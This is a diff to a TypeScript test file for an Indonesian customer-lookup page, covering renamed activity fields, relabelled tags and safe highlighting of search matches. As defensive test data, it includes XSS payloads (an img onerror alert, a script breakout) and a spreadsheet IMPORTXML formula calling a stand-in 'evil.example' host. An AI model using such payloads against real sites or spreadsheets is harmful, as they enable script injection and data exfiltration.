@@ -15,13 +15,16 @@ afterEach(() => {
 const budi = listItem('budi_s', 'Jl. Melati No. 5, Bandung', {
   realName: 'Budi Santoso',
   orderCount: 4,
-  lastOrderSn: '240501AAA111',
+  lastActivitySn: '240501AAA111',
 });
 const sari = listItem('sari.dewi', 'Jl. Kenanga 12, Surabaya', {
-  lastOrderAt: '2024-04-30T17:10:00.000Z',
-  lastOrderSn: '240501BBB222',
+  lastActivityAt: '2024-04-30T17:10:00.000Z',
+  lastActivitySn: '240501BBB222',
 });
-const andi = listItem('andi99', 'Perum Griya Asri C3, Medan', { lastOrderSn: '240430CCC333', orderCount: 2 });
+const andi = listItem('andi99', 'Perum Griya Asri C3, Medan', {
+  lastActivitySn: '240430CCC333',
+  orderCount: 2,
+});
 
 async function loaded(items: CustomerListItemView[] = [budi, sari, andi]): Promise<LoadedPage> {
   page = await loadPage('Lookup');
@@ -72,9 +75,11 @@ describe('list mode', () => {
     expect(b.querySelector('.mark.profile')!.textContent).toBe('✓');
     expect(b.querySelector('.tag.temporary')).toBeNull();
     expect(b.querySelector('.item-user')!.textContent).toBe('budi_s');
-    expect(b.querySelector('.item-meta')!.textContent).toBe('Terakhir 1 Mei 2024 · 4 pesanan240501AAA111');
+    expect(b.querySelector('.item-meta')!.textContent).toBe(
+      'Aktivitas terakhir 1 Mei 2024 · 4 pesanan240501AAA111',
+    );
     expect(s.querySelector('.mark.profile')).toBeNull();
-    expect(s.querySelector('.tag.temporary')!.textContent).toBe('Sementara');
+    expect(s.querySelector('.tag.temporary')!.textContent).toBe('Belum bernama');
     expect(s.querySelector('.item-user')).toBeNull();
     expect(s.querySelector('.item-sn')!.textContent).toBe('240501BBB222');
     expect(s.querySelector('.item-address')!.textContent).toBe('Jl. Kenanga 12, Surabaya');
@@ -176,7 +181,7 @@ describe('detail', () => {
 
     expect(ddOf('Total belanja')).toBe('Rp 1.234.567');
     expect(ddOf('Jumlah pesanan')).toBe('3');
-    expect(ddOf('Rata-rata per pesanan')).toBe('Rp 411.522,33');
+    expect(ddOf('Rata-rata per pesanan')).toBe('Rp 411.522');
     // 20:30 UTC on 31 Dec 2023 is 03:30 on 1 Jan 2024 in Jakarta.
     expect(ddOf('Pesanan pertama')).toBe('1 Januari 2024 03.30');
     expect(ddOf('Sejak pesanan terakhir')).toBe('3 hari lalu');
@@ -335,8 +340,8 @@ describe('naming from the detail', () => {
     await loaded();
     await openDetail(sari);
     expect(page.$('.customer-name').textContent).toBe('sari.dewi');
-    expect(page.$('.temporary-profile .notice-title').textContent).toBe('Profil Sementara');
-    expect(page.$('.identity .tag.temporary').textContent).toBe('Sementara');
+    expect(page.$('.temporary-profile .notice-title').textContent).toBe('Nama asli belum dicatat');
+    expect(page.$('.identity .tag.temporary').textContent).toBe('Belum bernama');
     const input = page.$<HTMLInputElement>('.temporary-profile input.name-input');
     input.focus();
     typeInto(input, 'Sari Dewi');
@@ -408,11 +413,48 @@ describe('naming from the detail', () => {
   });
 });
 
+describe('search results say why they matched', () => {
+  it('marks the matched span as text (never HTML), and shows the matched order number', async () => {
+    const evil = listItem('<b>budi</b>', 'Jl. <i>Setiabudi</i> 1', {
+      lastActivitySn: '240501AAA111',
+      match: { field: 'address', text: 'Jl. <i>Setiabudi</i> 1', start: 12, length: 4 },
+    });
+    const old = listItem('tono', 'Jl. A', {
+      lastActivitySn: '240501ZZZ999',
+      match: { field: 'orderSn', text: '240420BBB', start: 0, length: 6 },
+    });
+    await loaded();
+    typeInto(search(), 'budi');
+    pressKey(search(), 'Enter');
+    page.fake
+      .last('lookupCustomers')
+      .resolve(listView([evil, old], { mode: 'search', query: 'budi', days: 0 }));
+    await flush();
+    const [a, b] = rows();
+    const address = a.querySelector('.item-address')!;
+    expect(address.textContent).toBe('Jl. <i>Setiabudi</i> 1');
+    expect(address.querySelector('i')).toBeNull();
+    expect(address.querySelector('mark')!.textContent).toBe('budi');
+    expect(a.querySelector('.item-name mark')).toBeNull();
+    expect(a.querySelector('.item-why')!.textContent).toBe('Cocok: alamat');
+    expect(b.querySelector('.item-sn')!.textContent).toBe('240420BBB');
+    expect(b.querySelector('.item-sn mark')!.textContent).toBe('240420');
+    expect(b.querySelector('.item-why')!.textContent).toBe('Cocok: no. pesanan');
+  });
+
+  it('a buyer with only cancelled orders reads "belum ada pesanan yang dihitung", not "0 pesanan"', async () => {
+    await loaded([listItem('batal_terus', 'Jl. B', { orderCount: 0 })]);
+    expect(rows()[0].querySelector('.item-activity')!.textContent).toBe(
+      'Aktivitas terakhir 1 Mei 2024 · belum ada pesanan yang dihitung',
+    );
+  });
+});
+
 describe('untrusted text and language', () => {
   it('hostile names, addresses, products and errors are shown literally', async () => {
     const evil = listItem('<img src=x onerror=alert(1)>', '</script><script>alert(1)</script>', {
       realName: '=IMPORTXML("http://evil.example","//a")',
-      lastOrderSn: '<b>1</b>',
+      lastActivitySn: '<b>1</b>',
     });
     await loaded([evil]);
     expect(names()).toEqual(['=IMPORTXML("http://evil.example","//a")']);
@@ -460,7 +502,7 @@ describe('untrusted text and language', () => {
     await flush();
     expect(page.$('h1').textContent).toBe('Find Customer');
     expect(page.$('.list-heading').textContent).toBe('Buyers of the last 2 days');
-    expect(rows()[1].querySelector('.tag.temporary')!.textContent).toBe('Temporary');
+    expect(rows()[1].querySelector('.tag.temporary')!.textContent).toBe('No name yet');
     await openDetail(budi);
     expect(ddOf('Total spend')).toBe('Rp 1.234.567');
     expect(ddOf('Date')).toBe('1 May 2024 13:45');
